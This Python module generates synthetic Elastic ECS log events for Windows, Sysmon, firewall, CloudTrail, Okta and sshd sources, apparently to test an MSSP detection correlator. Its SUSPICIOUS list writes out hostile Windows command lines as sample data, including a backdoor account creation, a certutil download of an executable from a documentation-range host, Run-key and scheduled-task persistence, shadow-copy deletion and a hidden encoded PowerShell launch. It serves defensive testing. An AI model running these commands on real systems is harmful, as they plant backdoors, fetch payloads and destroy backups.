"""ECS documents of the kinds an MSSP correlator sees, written the way Elastic's integrations write
them (field names, string event codes, channels, datasets); one function per source.

Each ``<source>(rng)`` returns one nested ECS document without identity (no ``event.id``,
``organization.id`` or ``@timestamp``: ``events.py`` adds those). Values are drawn from small
pools, mostly routine activity with a few suspicious ones, so a realistic share of events hits
rules. Addresses come from the documentation ranges and user names from example.com.
``linux_auth`` documents come from the normaliser run over the corpus auth logs when both exist.
"""

from __future__ import annotations

import random
from collections.abc import Mapping
from typing import Any

Doc = dict[str, Any]

USERS = [f"user{i:03}" for i in range(1, 201)] + ["administrator", "svc_backup", "svc_sql"]
HOSTS = [f"ws-{i:03}" for i in range(1, 121)] + ["dc-01", "dc-02", "fs-01", "sql-01"]
BENIGN = [
    (r"C:\Windows\System32\svchost.exe", "svchost.exe -k netsvcs -p -s Schedule"),
    (r"C:\Windows\explorer.exe", "explorer.exe"),
    (r"C:\Program Files\Google\Chrome\Application\chrome.exe", "chrome.exe --type=renderer"),
    (r"C:\Windows\System32\conhost.exe", r"\??\C:\Windows\system32\conhost.exe 0xffffffff"),
    (r"C:\Windows\System32\cmd.exe", r'cmd.exe /c "C:\scripts\logon.bat"'),
    (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "powershell.exe -File a.ps1"),
    (r"C:\Windows\System32\taskhostw.exe", "taskhostw.exe"),
    (r"C:\Windows\System32\rundll32.exe", "rundll32.exe shell32.dll,Control_RunDLL"),
    (r"C:\Program Files\Git\cmd\git.exe", "git.exe fetch --all"),
    (r"C:\Windows\System32\msiexec.exe", "msiexec.exe /V"),
    (r"C:\Windows\System32\wbem\WmiPrvSE.exe", "wmiprvse.exe -Embedding"),
    (r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", "WINWORD.EXE /n"),
]
SUSPICIOUS = [
    (r"C:\Windows\System32\whoami.exe", "whoami /all"),
    (r"C:\Windows\System32\whoami.exe", "whoami /priv"),
    (r"C:\Windows\System32\net.exe", "net user backdoor P@ss /add"),
    (r"C:\Windows\System32\certutil.exe", "certutil -urlcache -split -f http://203.0.113.9/a.exe"),
    (r"C:\Windows\System32\schtasks.exe", "schtasks /create /tn upd /tr C:\\u.exe /sc onlogon"),
    (r"C:\Windows\System32\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
    (r"C:\Windows\System32\reg.exe",
     r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v u /d C:\u.exe"),
    (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
     "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA="),
]  # fmt: skip
SECURITY_CODES = {
    "4624": 30, "4634": 15, "4672": 10, "4688": 12, "4625": 8, "4768": 5, "4769": 5, "4776": 4,
    "4648": 3, "5140": 2, "5145": 2, "4662": 1, "4720": 0.5, "4732": 0.5, "4740": 0.5,
    "4698": 0.5, "4697": 0.3, "4719": 0.2, "1102": 0.1,
}  # fmt: skip
SYSMON_CODES = {"1": 40, "3": 25, "11": 15, "7": 10, "22": 5, "13": 5}
CLOUDTRAIL_ACTIONS = {
    "GetObject": 30, "PutObject": 15, "DescribeInstances": 10, "AssumeRole": 10,
    "ListBuckets": 5, "ConsoleLogin": 5, "GetCallerIdentity": 5, "CreateUser": 0.5,
    "DeleteTrail": 0.2, "StopLogging": 0.2, "DeleteBucket": 0.5, "CreateAccessKey": 0.5,
    "AuthorizeSecurityGroupIngress": 0.5, "DeleteDetector": 0.1, "UpdateLoginProfile": 0.2,
}  # fmt: skip
OKTA_ACTIONS = {
    "user.session.start": 30, "user.authentication.sso": 30, "user.session.end": 15,
    "user.authentication.auth_via_mfa": 15, "app.oauth2.token.grant": 5,
    "user.account.lock": 0.5, "user.mfa.factor.deactivate": 0.3, "system.api_token.create": 0.2,
    "policy.lifecycle.update": 0.2, "user.lifecycle.create": 0.5,
}  # fmt: skip
PORTS = {443: 50, 80: 15, 53: 15, 22: 5, 3389: 3, 445: 4, 21: 1, 23: 0.5, 25: 2, 8080: 3}


def pick(rng: random.Random, weights: Mapping[Any, float]) -> Any:
    return rng.choices(list(weights), weights=list(weights.values()))[0]


def ip(rng: random.Random, net: str = "") -> str:
    prefix = net or rng.choice(["192.0.2", "198.51.100", "203.0.113"])
    return f"{prefix}.{rng.randint(1, 254)}"


def _process(rng: random.Random) -> dict[str, Any]:
    image, command = rng.choice(SUSPICIOUS if rng.random() < 0.03 else BENIGN)
    parent, _ = rng.choice(BENIGN)
    name = image.rsplit("\\", 1)[-1]
    return {
        "executable": image, "name": name, "command_line": command, "pid": rng.randint(100, 9999),
        "parent": {"executable": parent, "name": parent.rsplit("\\", 1)[-1]},
        "pe": {"original_file_name": name},
    }  # fmt: skip


def windows_security(rng: random.Random) -> Doc:
    code, user, host = pick(rng, SECURITY_CODES), rng.choice(USERS), rng.choice(HOSTS)
    failed = code == "4625"
    data = {
        "SubjectUserName": rng.choice(["SYSTEM", f"{host.upper()}$", user]),
        "TargetUserName": user, "TargetDomainName": "EXAMPLE", "WorkstationName": host.upper(),
        "LogonType": rng.choice(["2", "3", "3", "3", "5", "10"]), "IpAddress": ip(rng, "192.0.2"),
        "IpPort": str(rng.randint(1024, 65535)), "AuthenticationPackageName": "NTLM",
        "LogonProcessName": "NtLmSsp", "TicketEncryptionType": rng.choice(["0x12", "0x12", "0x17"]),
        "ServiceName": rng.choice(["krbtgt", "MSSQLSvc", "HTTP"]),
        "ShareName": rng.choice([r"\\*\IPC$", r"\\*\C$", r"\\*\SYSVOL"]),
        "Status": "0xc000006d" if failed else "0x0",
        "SubStatus": rng.choice(["0xc000006a", "0xc0000064"]) if failed else "0x0",
    }  # fmt: skip
    doc: Doc = {
        "event": {"code": code, "provider": "Microsoft-Windows-Security-Auditing",
                  "kind": "event", "outcome": "failure" if failed else "success"},
        "winlog": {"channel": "Security", "event_id": code, "computer_name": f"{host}.example.com",
                   "event_data": data},
        "host": {"name": host}, "user": {"name": user, "domain": "EXAMPLE"},
        "source": {"ip": data["IpAddress"]},
    }  # fmt: skip
    if code == "4688":
        doc["process"] = _process(rng)
    return doc


def sysmon(rng: random.Random) -> Doc:
    code, host = pick(rng, SYSMON_CODES), rng.choice(HOSTS)
    doc: Doc = {
        "event": {"code": code, "provider": "Microsoft-Windows-Sysmon", "kind": "event"},
        "winlog": {"channel": "Microsoft-Windows-Sysmon/Operational", "event_id": code,
                   "computer_name": f"{host}.example.com"},
        "host": {"name": host}, "user": {"name": f"EXAMPLE\\{rng.choice(USERS)}"},
        "process": _process(rng),
    }  # fmt: skip
    if code == "3":
        port = pick(rng, PORTS)
        doc["destination"] = {"ip": ip(rng), "port": port}
        doc["source"] = {"ip": ip(rng, "192.0.2"), "port": rng.randint(1024, 65535)}
        doc["network"] = {"transport": "tcp", "direction": "egress"}
    elif code == "11":
        temp = rf"C:\Users\{rng.choice(USERS)}\AppData\Local\Temp"
        doc["file"] = {"path": rf"{temp}\tmp{rng.randint(1, 9999)}.tmp"}
    elif code == "7":
        dll = rng.choice(["ntdll.dll", "kernel32.dll", "amsi.dll"])
        doc["dll"] = {"path": rf"C:\Windows\System32\{dll}", "name": dll}
    elif code == "22":
        name = rng.choice(["www.example.com", "login.example.net", "cdn.example.org"])
        doc["dns"] = {"question": {"name": name}}
    else:  # 13: registry value set
        doc["registry"] = {"path": r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\upd"}
    return doc


def firewall(rng: random.Random) -> Doc:
    port, allowed = pick(rng, PORTS), rng.random() < 0.8
    return {
        "event": {"kind": "event", "category": ["network"], "type": ["connection"],
                  "action": "accept" if allowed else "deny", "code": "0000000013",
                  "outcome": "success" if allowed else "failure"},
        "observer": {"vendor": "Fortinet", "product": "Fortigate", "type": "firewall",
                     "name": "fw-01"},
        "fortinet": {"firewall": {"type": "traffic", "subtype": "forward", "vd": "root"}},
        "source": {"ip": ip(rng, "192.0.2"), "port": rng.randint(1024, 65535)},
        "destination": {"ip": ip(rng), "port": port},
        "network": {"transport": "udp" if port == 53 else "tcp", "protocol": _service(port)},
        "rule": {"name": rng.choice(["lan-to-wan", "dmz-in", "vpn"])},
    }  # fmt: skip


def _service(port: int) -> str:
    names = {443: "https", 80: "http", 53: "dns", 22: "ssh", 21: "ftp", 23: "telnet", 25: "smtp"}
    return names.get(port, "tcp")


def cloudtrail(rng: random.Random) -> Doc:
    action, user = pick(rng, CLOUDTRAIL_ACTIONS), rng.choice(USERS)
    kind = "Root" if rng.random() < 0.005 else rng.choice(["IAMUser", "AssumedRole"])
    doc: Doc = {
        "event": {"dataset": "aws.cloudtrail", "kind": "event", "action": action,
                  "provider": "signin.amazonaws.com" if action == "ConsoleLogin"
                  else "s3.amazonaws.com", "outcome": "success"},
        "source": {"address": ip(rng, "203.0.113")}, "user": {"name": user},
        "cloud": {"region": rng.choice(["eu-west-1", "us-east-1"]), "account": {"id": "111122223333"}},
        "aws": {"cloudtrail": {"user_identity": {"type": kind,
                "arn": f"arn:aws:iam::111122223333:user/{user}"}, "event_type": "AwsApiCall"}},
        "user_agent": {"original": "aws-cli/2.15.0 Python/3.11.6"},
    }  # fmt: skip
    if action == "ConsoleLogin":
        outcome = "Success" if rng.random() < 0.9 else "Failure"
        doc["aws"]["cloudtrail"]["flattened"] = {
            "response_elements": {"ConsoleLogin": outcome},
            "additional_eventdata": {"MFAUsed": rng.choice(["Yes", "No"])},
        }
    return doc


def okta(rng: random.Random) -> Doc:
    action, user = pick(rng, OKTA_ACTIONS), f"{rng.choice(USERS)}@example.com"
    result = "FAILURE" if rng.random() < 0.05 else "SUCCESS"
    return {
        "event": {"dataset": "okta.system", "kind": "event", "action": action,
                  "outcome": result.lower()},
        "okta": {"actor": {"alternate_id": user, "type": "User", "display_name": user},
                 "outcome": {"result": result}, "display_message": action.replace(".", " "),
                 "security_context": {"is_proxy": rng.random() < 0.01},
                 "debug_context": {"debug_data": {"threat_suspected": "false"}}},
        "source": {"ip": ip(rng, "198.51.100")}, "user": {"name": user},
        "user_agent": {"original": "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0"},
    }  # fmt: skip


SSH_MESSAGES = [
    ("Failed password for {u} from {ip} port {p} ssh2", "failure"),
    ("Accepted publickey for {u} from {ip} port {p} ssh2", "success"),
    ("Invalid user {u} from {ip} port {p}", "failure"),
    ("Connection closed by {ip} port {p} [preauth]", None),
]


def linux_auth(rng: random.Random) -> Doc:
    """A hand-built sshd document, for when the normaliser or the corpus is absent."""
    text, outcome = rng.choice(SSH_MESSAGES)
    user, address = rng.choice(USERS), ip(rng, "203.0.113")
    doc: Doc = {
        "event": {"dataset": "system.auth", "module": "system", "kind": "event"},
        "process": {"name": "sshd", "pid": rng.randint(1000, 60000)},
        "host": {"hostname": "bastion-01", "os": {"type": "linux"}},
        "message": text.format(u=user, ip=address, p=rng.randint(1024, 65535)),
        "source": {"ip": address}, "user": {"name": user},
    }  # fmt: skip
    if outcome:
        doc["event"].update(category=["authentication"], outcome=outcome)
    return doc
